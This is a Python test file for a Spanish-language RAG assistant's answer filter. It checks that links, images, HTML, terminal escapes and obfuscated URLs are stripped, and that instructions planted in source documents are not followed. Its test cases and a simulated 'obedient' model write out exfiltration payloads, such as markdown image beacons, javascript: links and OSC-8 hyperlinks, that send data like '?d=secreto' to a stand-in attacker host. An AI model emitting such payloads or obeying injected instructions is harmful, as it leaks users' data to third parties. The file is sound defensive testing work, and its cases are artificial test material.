"""What an answer may not do, whoever wrote it: fetch, link, act, or cite what was not given."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import asdict
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from assistant.project_assistant import ProjectAssistant
from assistant.rendering import answer_fields, show_answer
from assistant.view import answered
from rag_system.generation.markers import marker_numbers
from rag_system.generation.sanitizing import OMITTED, AnswerFilter, addresses, disarm
from rag_system.types import Finished
from rag_system.types import Token as Piece
from tests.builders import chunk, evidence, request
from tests.fakes import provider_server
from tests.hostile.documents import CANARY, DOCUMENTS, THIEF, HostileDocument
from ui.markup import answer_html

LISTED = "https://www.gob.pe/minjus"
SOURCES = evidence(chunk(f"El plazo es de cinco días. Más en {LISTED}."), chunk("Otro texto."))
QUESTION = "¿Cuántos libros presta la biblioteca municipal?"


def cleaned(text: str) -> str:
    return AnswerFilter(request("¿Qué plazo hay?", SOURCES)).whole(text)


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Cinco días [1].", "Cinco días [1]."),
        ("Cinco días [1]. ![estado](https://ladron.example/?d=x)", "Cinco días [1]. estado"),
        ("![a][p]\n\n[p]: https://ladron.example/?d=x", "a\n\n"),
        ("Pulse [aquí](https://ladron.example/a_(b)?d=x) [1].", "Pulse aquí [1]."),
        ("Pulse [aquí][p] [1].\n\n[p]: <https://ladron.example/> 'x'", "Pulse aquí [1].\n\n"),
        ("Pulse [aquí](javascript:alert(1)).", "Pulse aquí."),
        ("Escriba a <mailto:x@ladron.example?body=secreto>.", f"Escriba a {OMITTED}."),
        ("Vea https://ladron.example/?d=x.", f"Vea {OMITTED}."),
        ("Vea HTTPS://ladron.example, hoy", f"Vea {OMITTED}, hoy"),
        ("Vea www.ladron.example/x", f"Vea {OMITTED}"),
        ("Vea data:text/html;base64,AAAA", f"Vea {OMITTED}"),
        ("Vea https&colon;//ladron.example", f"Vea {OMITTED}"),
        ("Vea https\\://ladron.example", f"Vea {OMITTED}"),
        ("Vea ht\u200btps://ladron.example", f"Vea {OMITTED}"),
        ("Vea ht<b>tps://ladron.example</b>", f"Vea {OMITTED}"),
        ("<img src='https://ladron.example/x'>Cinco<br/>días", "Cinco días"),
        ("<a href=//ladron.example>aquí</a><script>x</script>", "aquíx"),
        ("<x-y onclick='z'>hola", "hola"),
        (f"Vea {LISTED} [1].", f"Vea {LISTED} [1]."),
        (f"Vea [el portal]({LISTED}/) [1].", f"Vea el portal ({LISTED}/) [1]."),
        (f"Vea {LISTED}?d=secreto", f"Vea {OMITTED}"),
        ("[1](https://ladron.example/?d=x) y [2](javascript:x)", "[1] y [2]"),
        ("Sí [7] y [Fuente 9].", "Sí y."),
        ("\x1b]8;;https://ladron.example\x07hola\x1b]8;;\x07 \x1b[2Jaquí", "hola aquí"),
        ("Nota \u202eoreh\u202c y \U000e0049fin", "Nota oreh y fin"),
        ("Datos: 5 días; data: tres. Si 3 < 5 y 5 > 3 [1].", "Datos: 5 días; data: tres. Si 3 < 5 y 5 > 3 [1]."),
        ("Firme <nombre> aquí", "Firme <\u2060nombre> aquí"),
        ("Escriba a mesa@gob.example", "Escriba a mesa@gob.example"),
    ],
)
def test_what_remains_of_an_answer(written: str, shown: str) -> None:
    assert cleaned(written) == shown
    streamed = "".join(AnswerFilter(request("¿Qué plazo hay?", SOURCES)).pieces(list(written)))
    assert THIEF not in cleaned(streamed)


def test_a_person_is_told_what_went() -> None:
    told, silent = (AnswerFilter(request("¿Qué plazo hay?", SOURCES)) for _ in range(2))
    told.whole("![x](https://ladron.example)")
    silent.whole(f"Cinco días [1], vea {LISTED}.")
    assert (len(told.notices), silent.notices) == (1, ())


# ---------------------------------------------------------------- whatever is written

_BRICKS = st.sampled_from(
    "![ ]( ) ][ ]: < > </ <img <a <!-- --> src= href= http:// https: // www. data: javascript: ladron.example \\ ` ``` "
    "~ * _ [1] [2] [x] & &colon; &#58; # - 1. | $ \" ' \n".split(" ")
)
_ANSWERS = st.lists(st.one_of(_BRICKS, st.just(" "), st.just("\n"), st.text(max_size=4)), max_size=25).map("".join)


def _live(tokens: list[Token]) -> Iterator[str]:
    for token in tokens:
        if token.type in {"image", "link_open", "html_inline", "html_block"}:
            yield token.type
        yield from _live(token.children or [])


@given(_ANSWERS)
def test_no_reader_of_markdown_finds_anything_live_in_an_answer(written: str) -> None:
    text = cleaned(written)
    assert list(_live(MarkdownIt("commonmark").enable("table").parse(text))) == []
    assert addresses([text]) == frozenset()
    assert cleaned(text) == text


@given(_ANSWERS, st.integers(1, 5))
def test_a_stream_shows_nothing_live_at_any_moment(written: str, size: int) -> None:
    stream = [written[at : at + size] for at in range(0, len(written), size)]
    so_far = ""
    for piece in AnswerFilter(request("¿Qué plazo hay?", SOURCES)).pieces(stream):
        so_far += piece
        assert "image" not in _live(MarkdownIt("commonmark").parse(so_far))


@given(st.text())
def test_disarming_keeps_every_word(text: str) -> None:
    visible = "".join(char for char in text if char.isprintable())
    assert "".join(char for char in disarm(text) if char.isprintable()) == visible


# ---------------------------------------------------------------- a model that obeys

OBEDIENT = (
    *("Presta cuatro ", "libros [1]. ![es", "tado](https://", f"{THIEF}/p.png?d=", "secreto) ", "[pulse](https:"),
    *(
        f"//{THIEF}/?q=1",
        ") <img src=",
        f"//{THIEF}/x>",
        f" <https://{THIEF}/",
        "> [9] [p]\n\n",
        f"[p]: //{THIEF}",
        "/\n",
    ),
    *(f"\x1b]8;;http://{THIEF}\x07ver", "\x1b]8;;\x07 $\\href{http:", f"//{THIEF}}}{{x}}$ fin."),
)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, " ".join(f"{name}={value}" for name, value in attrs)))


def test_an_obedient_model_carries_nothing_out(talking: ProjectAssistant, monkeypatch: pytest.MonkeyPatch) -> None:
    """In the chat while it streams and afterwards, on the command line, in what programs get and in what is stored."""
    monkeypatch.setattr(provider_server, "WORDS", OBEDIENT)
    conversation = talking.conversations.create()
    events = list(talking.stream(QUESTION, conversation_id=conversation))
    answer = next(event.answer for event in events if isinstance(event, Finished))
    streamed = "".join(event.text for event in events if isinstance(event, Piece))
    stored = talking.turns(conversation)[-1]
    assert answer.text.startswith("Presta cuatro libros [1]. estado pulse ")
    assert answer.notices
    view = answered(answer)
    for shown in (answer.text, streamed, show_answer(view), answer_fields(view)["answer"], stored.content):
        assert THIEF not in shown
        assert "\x1b" not in shown
        assert list(_live(MarkdownIt("commonmark").parse(shown))) == []
    for html in (answer_html(answer.text, sources=(1,), clickable=True), answer_html(streamed, sources=(1,))):
        tags = _Tags()
        tags.feed(html)
        assert not [tag for tag in tags.seen if tag[0] in {"img", "a", "script", "iframe"} or "//" in tag[1]]
    given = {item.n for item in answer.evidence}
    assert {citation.n for citation in answer.citations} <= given
    assert "[9]" not in answer.text


def test_a_citation_that_the_model_forgot_is_added_and_stored_as_such(
    talking: ProjectAssistant, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The streamed text has no marker; the finished one, what is stored and what is shown have it, and say so."""
    monkeypatch.setattr(
        provider_server, "WORDS", ("La biblioteca municipal presta ", "hasta cuatro libros por lector.")
    )
    conversation = talking.conversations.create()
    events = list(talking.stream(QUESTION, conversation_id=conversation))
    answer = next(event.answer for event in events if isinstance(event, Finished))
    stored = talking.turns(conversation)[-1]
    assert "[" not in "".join(event.text for event in events if isinstance(event, Piece))
    (citation,) = answer.citations
    assert (
        stored.content
        == answer.text
        == f"La biblioteca municipal presta hasta cuatro libros por lector [{citation.n}]."
    )
    assert [citation.added, *(each.added for each in stored.citations)] == [True, True]
    assert any("Legajo le agregó" in notice for notice in stored.notices)
    assert "cita agregada al revisar" in show_answer(answered(answer))


# ---------------------------------------------------------------- quotes are quotes


@pytest.mark.parametrize("document", DOCUMENTS, ids=lambda document: document.trick)
def test_literal_quotes_obey_nobody(assistant: ProjectAssistant, document: HostileDocument) -> None:
    conversation = assistant.conversations.create()
    events = list(assistant.stream(document.topic.question, conversation_id=conversation))
    answer = next(event.answer for event in events if isinstance(event, Finished))
    stored = assistant.turns(conversation)[-1]
    assert (answer.provider, answer.abstained) == ("extractive", False)
    assert answer.text.strip() != CANARY
    texts = {chunk_id: chunk.text for (_, chunk_id), chunk in answer.chunks.items()}
    assert all(citation.quote in texts[citation.chunk_id] for citation in answer.citations)
    assert list(_live(MarkdownIt("commonmark").parse(answer.text))) == []
    assert not any(ord(char) < 32 and char not in "\n\t" for char in show_answer(answered(answer)))
    ours = {int(n) for n in _numbers(answer.text)}
    assert (
        ours
        == set(marker_numbers(answer.text, [item.n for item in answer.evidence]))
        == {each.n for each in answer.citations}
    )
    assert [asdict(citation) for citation in answer.citations] == [
        {
            name: getattr(each, name)
            for name in ("n", "project", "chunk_id", "document", "path", "page", "quote", "added")
        }
        for each in stored.citations
    ]


def _numbers(text: str) -> Iterator[str]:
    """The markers that stand where we put them: after a quotation."""
    for part in text.split("» [")[1:]:
        yield part.split("]")[0]


def test_the_honest_words_answer_and_few_instructions_are_quoted(assistant: ProjectAssistant) -> None:
    """An ordinary question about the topic of each short document, where the instruction stands beside the answer."""
    answers = {each: assistant.ask(each.topic.question).text for each in DOCUMENTS}
    missed = [each.trick for each, text in answers.items() if each.topic.phrase not in text]
    quoted = [each.trick for each, text in answers.items() if CANARY in text]
    # Letters of one point make a PDF's honest lines look like headings, which are not quoted.
    assert set(missed) <= {"pdf_diminuto"}
    # What speaks to a model is left out; false statements and links are not, and the quote says whose words they are.
    assert set(quoted) <= {"marcas_falsas", "enlace_con_referencia"}


def test_the_list_of_documents_is_inert(assistant: ProjectAssistant) -> None:
    answer = assistant.ask("¿Qué documentos tienes?")
    assert list(_live(MarkdownIt("commonmark").parse(answer.text))) == []
    assert answer.citations == ()
